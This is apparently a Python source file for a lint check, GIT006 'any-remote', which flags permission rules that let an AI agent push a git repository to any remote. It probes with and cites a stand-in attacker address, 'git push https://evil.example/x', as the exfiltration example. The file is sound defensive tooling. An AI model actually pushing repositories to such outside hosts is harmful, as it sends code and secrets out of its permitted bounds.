"""GIT006 any-remote."""

from __future__ import annotations

from collections.abc import Iterator

from ..check import Check
from ..context import LintContext, reworded, words
from ..finding import Finding, Fix


def _find(context: LintContext, check: Check) -> Iterator[Finding]:
    for grant in context.find_grants("push", ["*:refs/**"], (), ["refs/**", *_named(context)]):
        steps = (grant.step,)
        for one in context.ask("push", _elsewhere(str(grant.step.witness.resource))):
            if one.rule is grant.rule:
                steps = (one.step,)
        fixes = tuple(
            Fix("only `origin`", (reworded(grant.rule, w, w.text.partition(":")[2]),))
            for w in words(context, grant.rule) if w.text.startswith(("*:", "**:"))
        )  # fmt: skip
        yield check.finding(
            context,
            f"the remote may be any: `{steps[0].witness.resource}` is allowed",
            grant.rule,
            steps=steps,
            fixes=fixes,
        )


def _named(context: LintContext) -> list[str]:
    """Patterns of the remotes that rules name."""
    names = {p.text.partition(":")[0] for r in context.own_rules(None, "push") for p in r.include if ":" in p.text}
    return [f"{n}:refs/**" for n in sorted(names) if n.isascii() and n.replace("-", "").isalnum()]


def _elsewhere(resource: str) -> str:
    ref = resource.partition(":")[2] or resource
    return f"https://evil.example/x.git:{ref}"


CHECK = Check(
    code="GIT006",
    name="any-remote",
    severity="error",
    evidence="proved",
    finds="A rule lets an agent push to any remote.",
    why="A remote is an address: `git push https://evil.example/x` sends the repository there.",
    remediation="Leave the remote out: a pattern without one means `origin`.",
    bad='allow push "*:agent/**"',
    good='allow push "agent/**"',
    near=('allow push "upstream:agent/**"',),
    shows="evil.example",
    function=_find,
)
